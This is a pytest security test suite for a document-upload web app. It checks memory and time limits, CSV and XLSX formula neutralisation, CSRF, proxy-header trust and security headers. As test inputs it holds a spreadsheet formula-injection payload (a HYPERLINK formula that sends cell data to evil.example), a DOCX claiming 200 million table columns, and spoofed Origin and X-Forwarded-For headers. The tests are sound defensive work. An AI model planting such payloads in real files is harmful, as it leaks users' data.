"""The hardened web app: worker process limits, formula-safe downloads, 422 for out-of-range
integers, the token and proxy rules, CSRF, security headers everywhere, /docs offline."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import re
import resource
import signal
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as hs
from test_store import CORPUS_TEXTS, db_url, fake_check, hand_document, pg_server  # noqa: F401 (fixtures)

pytest.importorskip("fastapi", reason="fastapi not installed")
from fastapi.testclient import TestClient  # noqa: E402

from juesuan.store import open_store  # noqa: E402
from juesuan.web import create_app  # noqa: E402
from juesuan.web.security import client_address, csrf_token_valid, new_csrf_token  # noqa: E402
from juesuan.web.settings import MAX_ID, MAX_OFFSET, WebSettings  # noqa: E402

STATIC = Path(__file__).resolve().parents[1] / "src" / "juesuan" / "web" / "static"
ORIGIN = {"Origin": "http://testserver"}
SECURITY_HEADERS = ("content-security-policy", "x-content-type-options", "x-frame-options", "referrer-policy")


# --------------------------------------------------------------------------- checkers the child runs
# (module level, so the reading process can import them by name)


def hog_check(doc):  # type: ignore[no-untyped-def]
    """A checker that tries to take 4 GiB, as a hostile document could make a reader do."""
    block = bytearray(4 * 1024**3)
    return fake_check(doc) if block else None


def slow_check(doc):  # type: ignore[no-untyped-def]
    time.sleep(60)
    return fake_check(doc)


def crash_check(doc):  # type: ignore[no-untyped-def]
    os.kill(os.getpid(), signal.SIGSEGV)


def broken_check(doc):  # type: ignore[no-untyped-def]
    raise ValueError("a bug in a rule")


# --------------------------------------------------------------------------- fixtures


@pytest.fixture
def make_client(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    monkeypatch.delenv("JUESUAN_TOKEN", raising=False)
    stores = []

    def make(checker=fake_check, headers=ORIGIN, **kwargs):  # type: ignore[no-untyped-def]
        st = open_store(f"sqlite:///{tmp_path / f'sec{len(stores)}.db'}", checker=checker, rules_version="sec-1")
        stores.append(st)
        kwargs.setdefault("upload_dir", tmp_path / "uploads")
        return TestClient(create_app(store=st, **kwargs), headers=headers), st

    yield make
    for st in stores:
        st.close()


def need_corpus() -> None:
    if not CORPUS_TEXTS:
        pytest.skip("corpus texts not found")


def post_file(c: TestClient, name: str, content: bytes, url: str = "/upload?wait=1", **kw):  # type: ignore[no-untyped-def]
    return c.post(url, files={"file": (name, content, "application/octet-stream")}, follow_redirects=False, **kw)


def rss_mib() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def message(r) -> str:  # type: ignore[no-untyped-def]
    if r.headers["content-type"].startswith("application/json"):
        return r.json()["detail"]
    m = re.search(r'<p class="message">(.*?)</p>', r.text, re.S)
    return m.group(1) if m else r.text[:300]


# --------------------------------------------------------------------------- 1. worker process


def test_memory_cap_refuses_without_growing_the_server(make_client) -> None:  # type: ignore[no-untyped-def]
    need_corpus()
    c, st = make_client(checker=hog_check, worker_memory_mb=512)
    before = rss_mib()
    r = post_file(c, "a.txt", CORPUS_TEXTS[0].read_bytes())
    assert r.status_code == 422, r.text[-500:]
    assert message(r).startswith("文件超出限制") and "内存" in message(r)
    assert rss_mib() - before < 200  # the 4 GiB were asked for in the child, never here
    assert st.count_documents() == 0
    assert c.get("/").status_code == 200  # the server goes on


def test_time_limit_kills_the_reading_process(make_client) -> None:  # type: ignore[no-untyped-def]
    need_corpus()
    c, st = make_client(checker=slow_check, worker_seconds=2)
    t = time.monotonic()
    r = post_file(c, "a.txt", CORPUS_TEXTS[0].read_bytes(), url="/api/documents?wait=1")
    assert time.monotonic() - t < 20
    assert r.status_code == 422 and "处理时间超过 2 秒" in r.json()["detail"]
    assert st.count_documents() == 0


def test_a_dying_reader_is_a_clear_500(make_client) -> None:  # type: ignore[no-untyped-def]
    need_corpus()
    c, _ = make_client(checker=crash_check)
    r = post_file(c, "崩溃.txt", CORPUS_TEXTS[0].read_bytes())
    assert r.status_code == 500 and "处理进程意外退出" in message(r) and "「崩溃.txt」" in message(r)
    assert "Error" not in message(r) and "Traceback" not in r.text
    assert c.get("/").status_code == 200


def test_reads_at_once_are_bounded(make_client) -> None:  # type: ignore[no-untyped-def]
    """Uploads queue (issue 14): with every reading slot busy an upload is accepted at once as a
    job, and read only when a slot is free."""
    need_corpus()
    c, st = make_client()
    slots = c.app.state.context.reading_slots
    n = c.app.state.settings.max_workers
    for _ in range(n):  # every reading slot busy
        assert slots.acquire(timeout=1)
    try:
        t = time.monotonic()
        r = post_file(c, "a.txt", CORPUS_TEXTS[0].read_bytes(), url="/api/documents")
        assert r.status_code == 202 and time.monotonic() - t < 5
        job = r.json()["job"]
        time.sleep(1.0)
        assert c.get(f"/api/jobs/{job['id']}").json()["status"] in ("queued", "running")
        assert st.count_documents() == 0
    finally:
        for _ in range(n):
            slots.release()
    for _ in range(150):
        got = c.get(f"/api/jobs/{job['id']}").json()
        if got["status"] in ("done", "failed"):
            break
        time.sleep(0.2)
    assert got["status"] == "done" and st.count_documents() == 1, got
    assert slots.acquire(timeout=5)  # every slot was given back
    slots.release()


def test_a_failing_rule_check_keeps_the_facts(make_client) -> None:  # type: ignore[no-untyped-def]
    need_corpus()
    c, st = make_client(checker=broken_check)
    r = post_file(c, "a.txt", CORPUS_TEXTS[0].read_bytes(), url="/api/documents?wait=1")
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["facts"] > 100 and body["findings"] is None
    assert any("规则检查出错" in w for w in body["warnings"]) and not any("Error" in w for w in body["warnings"])


def _docx(document_xml: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            "</Types>",
        )
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            "</Relationships>",
        )
        z.writestr("word/document.xml", document_xml)
    return buf.getvalue()


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@pytest.mark.parametrize("attr", ["gridBefore", "gridSpan"])
def test_hostile_docx_spans_give_a_4xx(make_client, attr: str) -> None:  # type: ignore[no-untyped-def]
    """A 1 KB DOCX whose table claims 200 million columns (issue 12's 2-4 GB case)."""
    c, st = make_client(worker_memory_mb=768)
    cell_pr = f'<w:tcPr><w:gridSpan w:val="200000000"/></w:tcPr>' if attr == "gridSpan" else ""
    row_pr = '<w:trPr><w:gridBefore w:val="200000000"/></w:trPr>' if attr == "gridBefore" else ""
    rows = "".join(
        f"<w:tr>{row_pr}<w:tc>{cell_pr}<w:p><w:r><w:t>支出决算表 {i}</w:t></w:r></w:p></w:tc></w:tr>" for i in range(3)
    )
    xml = f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body><w:tbl>{rows}</w:tbl></w:body></w:document>'
    before = rss_mib()
    r = post_file(c, "span.docx", _docx(xml))
    assert 400 <= r.status_code < 500, (r.status_code, message(r))
    assert "Traceback" not in r.text and "Error:" not in message(r)
    assert rss_mib() - before < 200
    assert st.count_documents() == 0


def test_upload_is_read_in_the_child_and_stored(make_client, corpus_docs) -> None:  # type: ignore[no-untyped-def]
    """The normal path through the worker: same facts as reading in process, findings stored."""
    need_corpus()
    c, st = make_client()
    path = CORPUS_TEXTS[0]
    r = post_file(c, path.name, path.read_bytes(), url="/api/documents?wait=1")
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["findings"] == 3 and body["rules_version"] == "sec-1"
    facts = c.get(f"/api/documents/{body['document_id']}/facts").json()
    assert {(f["table"], f["row"], f["column"], f["raw"]) for f in facts} == {
        (f.table, f.row, f.column, f.raw) for f in corpus_docs[path.stem].facts
    }
    doc = st.load_document(body["document_id"])
    assert "/" not in (doc.source or "")  # the server's upload path is not stored as the source


# --------------------------------------------------------------------------- 2. formula-safe downloads


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def _hostile_labelled(label: str):  # type: ignore[no-untyped-def]
    doc = hand_document("公式测试局")
    doc.facts = [dataclasses.replace(f, label=label) if f.row == "201" else f for f in doc.facts]
    return doc


def test_csv_downloads_neutralise_formulas_and_start_with_bom(make_client) -> None:  # type: ignore[no-untyped-def]
    c, st = make_client()
    o = st.ingest_document(_hostile_labelled(FORMULA), "7" * 64, result=fake_check(_hostile_labelled(FORMULA)))
    for url in (f"/documents/{o.document_id}/facts.csv", "/exports/facts.csv"):
        r = c.get(url)
        assert r.status_code == 200 and r.content.startswith(b"\xef\xbb\xbf"), url
        rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
        labels = [row["label"] for row in rows if row["row"] == "201"]
        assert labels and all(lab == "'" + FORMULA for lab in labels), (url, labels)
        assert not any(v.startswith(("=", "+", "@")) for row in rows for v in row.values() if v), url
    findings = c.get("/exports/findings.csv")
    assert findings.content.startswith(b"\xef\xbb\xbf")
    assert not any(v.startswith(("=", "@")) for row in csv.reader(io.StringIO(findings.content.decode("utf-8-sig"))) for v in row if v)


def test_xlsx_report_writes_formula_text_as_text(make_client) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    c, st = make_client()
    doc = _hostile_labelled(FORMULA)
    o = st.ingest_document(doc, "6" * 64, result=fake_check(doc))
    r = c.get(f"/documents/{o.document_id}/report.xlsx")
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(prefix=hs.sampled_from(["=", "+", "-", "@", "\t", "\r"]), body=hs.text("ABC(1)!,\"'中文", min_size=1, max_size=12))
def test_every_formula_prefix_is_neutralised(make_client, prefix: str, body: str) -> None:  # type: ignore[no-untyped-def]
    label = prefix + "A" + body  # a letter after the prefix: never a plain number
    c, st = make_client()
    o = st.ingest_document(_hostile_labelled(label), os.urandom(32).hex())
    r = c.get(f"/documents/{o.document_id}/facts.csv")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    got = [row["label"] for row in rows if row["row"] == "201"]
    assert got and all(not g.startswith(("=", "+", "-", "@", "\t", "\r")) for g in got), got
    assert all(g.endswith(label[1:]) for g in got)


# --------------------------------------------------------------------------- 3. out-of-range integers


BIG = "9" * 20


def test_out_of_range_integers_are_422_never_500(make_client) -> None:  # type: ignore[no-untyped-def]
    c, _ = make_client()
    urls = [
        f"/documents/{BIG}",
        f"/documents/{BIG}/facts.csv",
        f"/documents/{BIG}/report.xlsx",
        f"/documents/{BIG}/report.html",
        f"/departments/{BIG}",
        f"/api/documents/{BIG}",
        f"/api/documents/{BIG}/facts",
        f"/api/documents/{BIG}/findings",
        f"/?offset={BIG}",
        f"/downloads?offset={BIG}",
        f"/api/documents?offset={BIG}",
        f"/api/documents?year={BIG}",
        f"/api/documents?limit={BIG}",
        f"/api/compare?departments={BIG}",
        f"/compare?departments={BIG}",
        "/api/compare?departments=%C2%B2",  # '²' is a digit to str.isdigit, not to int()
        "/documents/0",
        "/documents/-1",
    ]
    for url in urls:
        r = c.get(url)
        assert r.status_code == 422, (url, r.status_code, r.text[-300:])
        assert all(h in r.headers for h in SECURITY_HEADERS), url
    assert c.get("/compare?year=" + BIG).status_code == 200  # a free-text year that is no year is ignored


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(n=hs.one_of(hs.integers(min_value=MAX_ID + 1, max_value=2**70), hs.integers(min_value=2**63, max_value=10**40), hs.integers(max_value=0, min_value=-(10**30))))
def test_any_out_of_range_id_is_422(make_client, n: int) -> None:  # type: ignore[no-untyped-def]
    c, _ = make_client()
    urls = [f"/api/documents/{n}", f"/documents/{n}", f"/departments/{n}"]
    if n < 0 or n > MAX_OFFSET:
        urls += [f"/api/documents?offset={n}", f"/?offset={n}"]
    for url in urls:
        r = c.get(url)
        assert r.status_code == 422, (url, r.status_code)


def test_largest_id_is_a_plain_404(make_client) -> None:  # type: ignore[no-untyped-def]
    c, _ = make_client()
    assert c.get(f"/api/documents/{MAX_ID}").status_code == 404
    assert c.get(f"/api/documents?offset={MAX_OFFSET}").json() == []


# --------------------------------------------------------------------------- 4. token and proxies


def test_token_applies_on_loopback_when_configured(make_client, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    need_corpus()
    monkeypatch.setenv("JUESUAN_TOKEN", "loop-token")
    c, _ = make_client()  # bound to 127.0.0.1
    data = CORPUS_TEXTS[0].read_bytes()
    assert post_file(c, "a.txt", data).status_code == 401
    assert 'name="token"' in c.get("/").text
    ok = post_file(c, "a.txt", data, headers={"Authorization": "Bearer loop-token"})
    assert ok.status_code == 303


def test_proxy_headers_are_believed_only_from_allowed_ips(make_client) -> None:  # type: ignore[no-untyped-def]
    need_corpus()
    data = CORPUS_TEXTS[0].read_bytes()
    # loopback, no token: a request that came through a proxy nobody vouched for is not local
    c, _ = make_client()
    r = post_file(c, "a.txt", data, headers={**ORIGIN, "X-Forwarded-For": "203.0.113.5"})
    assert r.status_code == 403 and "代理" in message(r)
    # a trusted proxy reporting an outside client: refused; reporting a loopback client: allowed
    c2, _ = make_client(forwarded_allow_ips="*")
    assert post_file(c2, "a.txt", data, headers={**ORIGIN, "X-Forwarded-For": "203.0.113.5"}).status_code == 403
    assert post_file(c2, "a.txt", data, headers={**ORIGIN, "X-Forwarded-For": "127.0.0.1"}).status_code == 303


def test_client_address_resolution() -> None:
    s = WebSettings(forwarded_allow_ips=("10.0.0.0/8",))

    def scope(peer: str, **headers: str) -> dict:
        return {"client": (peer, 1234), "headers": [(k.replace("_", "-").encode(), v.encode()) for k, v in headers.items()]}

    assert client_address(scope("192.0.2.1"), s) == ("192.0.2.1", True)
    # an untrusted peer's headers are ignored, and the request is marked as of unknown origin
    assert client_address(scope("192.0.2.1", x_forwarded_for="127.0.0.1"), s) == ("192.0.2.1", False)
    # a trusted chain: the right-most address that is not itself a trusted proxy
    assert client_address(scope("10.0.0.1", x_forwarded_for="127.0.0.1, 198.51.100.7, 10.0.0.2"), s) == ("198.51.100.7", True)
    assert client_address(scope("10.0.0.1", forwarded='for="[2001:db8::1]";proto=https'), s) == ("2001:db8::1", True)
    assert not WebSettings().trusts("127.0.0.1")  # nothing is trusted unless configured
    with pytest.raises(ValueError):
        create_app("sqlite:///:memory:", forwarded_allow_ips="10.0.0.0/33")


# --------------------------------------------------------------------------- 5. CSRF


def test_post_without_origin_needs_a_csrf_token(make_client) -> None:  # type: ignore[no-untyped-def]
    need_corpus()
    data = CORPUS_TEXTS[0].read_bytes()
    c, _ = make_client(headers={})  # sends no Origin and no Referer
    refused = post_file(c, "a.txt", data)
    assert refused.status_code == 403 and "CSRF" in message(refused)
    assert post_file(c, "a.txt", data, data={"csrf_token": "abc.def"}).status_code == 403
    home = c.get("/")
    token = re.search(r'name="csrf_token" value="([^"]+)"', home.text).group(1)  # type: ignore[union-attr]
    assert c.cookies.get("juesuan_csrf") == token and "HttpOnly" in home.headers["set-cookie"]
    assert "samesite=strict" in home.headers["set-cookie"].lower()
    ok = post_file(c, "a.txt", data, data={"csrf_token": token})
    assert ok.status_code == 303
    # a valid-looking token that is not the cookie's (planted by another site) is refused
    other = new_csrf_token(b"another secret")
    assert post_file(c, "b.txt", data + b"\n", data={"csrf_token": other}).status_code == 403
    # API clients: the header (which a cross-site form cannot send) is enough
    api = post_file(c, "a.txt", data, url="/api/documents?wait=1", headers={"X-CSRF-Token": token})
    assert api.status_code == 200 and api.json()["status"] == "exists"
    # a script without cookies asks the API for a token first
    fresh = TestClient(c.app).get("/api/csrf-token").json()["csrf_token"]
    script = TestClient(c.app)
    assert post_file(script, "a.txt", data, url="/api/documents?wait=1").status_code == 403
    assert post_file(script, "a.txt", data, url="/api/documents?wait=1", headers={"X-CSRF-Token": fresh}).status_code == 200


def test_referer_and_origin_rules(make_client) -> None:  # type: ignore[no-untyped-def]
    need_corpus()
    data = CORPUS_TEXTS[0].read_bytes()
    c, _ = make_client(headers={})
    assert post_file(c, "a.txt", data, headers={"Referer": "http://evil.example/x"}).status_code == 403
    assert post_file(c, "a.txt", data, headers={"Origin": "null"}).status_code == 403
    assert post_file(c, "a.txt", data, headers={"Origin": "http://testserver.evil.example"}).status_code == 403
    assert post_file(c, "a.txt", data, headers={"Referer": "http://testserver/"}).status_code == 303


def test_bearer_token_stands_for_csrf(make_client) -> None:  # type: ignore[no-untyped-def]
    need_corpus()
    c, _ = make_client(headers={}, token="tok-1")
    data = CORPUS_TEXTS[0].read_bytes()
    assert post_file(c, "a.txt", data, url="/api/documents?wait=1", data={"token": "tok-1"}).status_code == 403
    r = post_file(c, "a.txt", data, url="/api/documents?wait=1", headers={"Authorization": "Bearer tok-1"})
    assert r.status_code == 201


def test_csrf_tokens_are_signed() -> None:
    t = new_csrf_token(b"k")
    assert csrf_token_valid(b"k", t) and not csrf_token_valid(b"other", t)
    assert not csrf_token_valid(b"k", t[:-1] + ("0" if t[-1] != "0" else "1"))
    assert not csrf_token_valid(b"k", None) and not csrf_token_valid(b"k", "x" * 500)


# --------------------------------------------------------------------------- 6. security headers


def test_security_headers_on_every_response(make_client, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    c, st = make_client(max_upload_bytes=1000)
    responses = {
        "home": c.get("/"),
        "docs": c.get("/docs"),
        "redoc": c.get("/redoc"),
        "openapi": c.get("/openapi.json"),
        "static": c.get("/static/app.js"),
        "404": c.get("/nowhere"),
        "api 404": c.get("/api/documents/5"),
        "422": c.get("/documents/abc"),
        "405": c.delete("/"),
        "413": post_file(c, "big.txt", b"x" * 5000),
        "bad host": c.get("/", headers={"Host": "evil.example"}),
        "cross-site": post_file(c, "a.txt", b"x", headers={"Origin": "http://evil.example"}),
    }

    def boom(*a, **k):  # type: ignore[no-untyped-def]
        raise RuntimeError("secret detail")

    monkeypatch.setattr(st, "departments", boom)
    responses["500"] = TestClient(c.app, raise_server_exceptions=False).get("/departments")
    assert responses["500"].status_code == 500
    assert "RuntimeError" not in responses["500"].text and "secret detail" not in responses["500"].text
    for what, r in responses.items():
        for h in SECURITY_HEADERS:
            assert h in r.headers, (what, r.status_code, h)
        csp = r.headers["content-security-policy"]
        assert "http:" not in csp and "https:" not in csp and "frame-ancestors 'none'" in csp, what
        assert "'unsafe-eval'" not in csp and "script-src 'self'" in csp, what
        assert r.headers["x-content-type-options"] == "nosniff" and r.headers["x-frame-options"] == "DENY", what


# --------------------------------------------------------------------------- 7. /docs offline


URL_ATTR = re.compile(r'(?:src|href|spec-url)="([^"]*)"')


@pytest.mark.parametrize("page", ["/docs", "/redoc"])
def test_api_docs_load_nothing_from_outside(make_client, page: str) -> None:  # type: ignore[no-untyped-def]
    c, _ = make_client()
    r = c.get(page)
    assert r.status_code == 200
    html = r.text
    assert not re.search(r"https?://|//[a-z0-9]", html, re.I), "no external URL in the page"
    assert "<script>" not in html and "onload=" not in html  # no inline script (the CSP forbids it)
    urls = URL_ATTR.findall(html)
    assert urls and all(u.startswith("/") and not u.startswith("//") for u in urls), urls
    for u in urls:
        got = c.get(u)
        assert got.status_code == 200, u
    assert c.get("/openapi.json").json()["paths"]


def test_vendored_assets_are_recorded() -> None:
    record = (STATIC / "VENDORED.md").read_text(encoding="utf-8")
    for f in ("swagger-ui-bundle.js", "swagger-ui.css", "redoc.standalone.js"):
        assert (STATIC / f).stat().st_size > 100_000, f
        assert f in record
    assert "Apache-2.0" in record and "MIT" in record and "5.35.0" in record and "2.5.4" in record
    assert (STATIC / "swagger-ui.LICENSE").is_file() and (STATIC / "redoc.LICENSE").is_file()
    assert "validatorUrl: null" in (STATIC / "swagger-init.js").read_text(encoding="utf-8")
    assert "cdn.redoc.ly" not in (STATIC / "redoc.standalone.js").read_text(encoding="utf-8")


# --------------------------------------------------------------------------- both backends


def test_hardening_on_each_backend(db_url: str, tmp_path: Path) -> None:  # noqa: F811
    """Upload through the worker, 422 for out-of-range ids, safe CSV: on SQLite and PostgreSQL."""
    need_corpus()
    st = open_store(db_url, checker=fake_check, rules_version="sec-1")
    try:
        c = TestClient(create_app(store=st, upload_dir=tmp_path / "up"), headers=ORIGIN)
        r = post_file(c, CORPUS_TEXTS[0].name, CORPUS_TEXTS[0].read_bytes(), url="/api/documents?wait=1")
        assert r.status_code == 201 and r.json()["findings"] == 3, r.text
        doc = _hostile_labelled(FORMULA)
        o = st.ingest_document(doc, "5" * 64, result=fake_check(doc))
        body = c.get(f"/documents/{o.document_id}/facts.csv").content
        assert body.startswith(b"\xef\xbb\xbf") and ("'" + FORMULA).replace('"', '""').encode() in body
        for url in (f"/api/documents/{BIG}", f"/documents/{BIG}", f"/departments/{BIG}", f"/api/documents?offset={BIG}",
                    f"/api/compare?departments={BIG}", f"/api/documents?year={BIG}"):  # fmt: skip
            assert c.get(url).status_code == 422, url
        assert c.get(f"/api/documents/{MAX_ID}").status_code == 404
        assert c.get(f"/departments/{MAX_ID}").status_code == 404
        assert c.get(f"/api/documents?offset={MAX_OFFSET}").json() == []
        assert c.get(f"/api/compare?departments={MAX_ID}").json()["missing"] == [str(MAX_ID)]
    finally:
        st.close()


# --------------------------------------------------------------------------- serve's options


def test_serve_passes_proxy_and_worker_options(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import typer
    import uvicorn
    from typer.testing import CliRunner

    from juesuan.cli_store import register

    cli = typer.Typer()
    register(cli)
    calls = []
    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: calls.append((app, kw)))
    monkeypatch.setenv("JUESUAN_TOKEN", "t")
    db = f"sqlite:///{tmp_path / 's.db'}"
    args = ["serve", "--db", db, "--forwarded-allow-ips", "10.0.0.0/8, 127.0.0.1", "--worker-memory-mb", "256",
            "--worker-seconds", "30"]  # fmt: skip
    r = CliRunner().invoke(cli, args)
    assert r.exit_code == 0, r.output
    app, kw = calls[-1]
    assert kw["proxy_headers"] is False
    s = app.state.settings
    assert s.forwarded_allow_ips == ("10.0.0.0/8", "127.0.0.1") and s.worker_memory_bytes == 256 * 1024 * 1024
    assert s.worker_seconds == 30
    assert app.state.require_token is True  # JUESUAN_TOKEN applies on loopback too
    bad = CliRunner().invoke(cli, ["serve", "--db", db, "--forwarded-allow-ips", "not-an-ip"])
    assert bad.exit_code == 2 and "--forwarded-allow-ips" in bad.output and len(calls) == 1
